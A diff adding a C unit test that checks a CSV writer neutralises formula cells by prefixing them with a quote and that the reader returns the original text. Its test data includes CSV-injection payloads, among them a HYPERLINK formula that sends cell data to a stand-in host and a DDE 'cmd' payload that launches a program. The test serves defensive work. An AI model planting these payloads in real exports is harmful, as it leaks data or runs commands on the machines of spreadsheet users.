@@ -128,6 +128,32 @@ static void test_leading_bom_field_round_trips(void **state)
 	csv_buf_free(&b);
 }
 
+/* Cells a spreadsheet would run as formulas are written as text; numbers
+ * stay numbers; paydesk's reader gives back the exact text. */
+static void test_formula_cells_are_neutralised(void **state)
+{
+	(void)state;
+	const char *row[] = {"=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "=cmd|' /C calc'!A0",
+			     "+1 (555) 010", "-2+3", "@SUM(A1)", "\tTab", "\r=1+1", "-12.50",
+			     "12", "-", "'=already", "'-12.50", "Jane"};
+	const size_t n = sizeof row / sizeof row[0];
+	struct csv_buf b = {0};
+	assert_int_equal(csv_write(&b, row, n), 0);
+	assert_string_equal(b.data,
+			    "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\","
+			    "\"'=cmd|' /C calc'!A0\",\"'+1 (555) 010\",\"'-2+3\",\"'@SUM(A1)\","
+			    "\"'\tTab\",\"'\r=1+1\",-12.50,12,\"'-\",\"''=already\",\"''-12.50\",Jane\r\n");
+	struct csv_reader *r = csv_reader_new(b.data, b.len);
+	struct csv_record rec;
+	assert_int_equal(csv_read(r, &rec), 1);
+	assert_string_equal(rec.error, "");
+	assert_int_equal(rec.n, n);
+	for (size_t k = 0; k < n; k++)
+		assert_string_equal(rec.fields[k], row[k]);
+	csv_reader_free(&r);
+	csv_buf_free(&b);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -137,6 +163,7 @@ int main(void)
 		cmocka_unit_test(test_malformed_rows_have_line_and_reading_goes_on),
 		cmocka_unit_test(test_utf8_validation),
 		cmocka_unit_test(test_round_trip),
+		cmocka_unit_test(test_formula_cells_are_neutralised),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
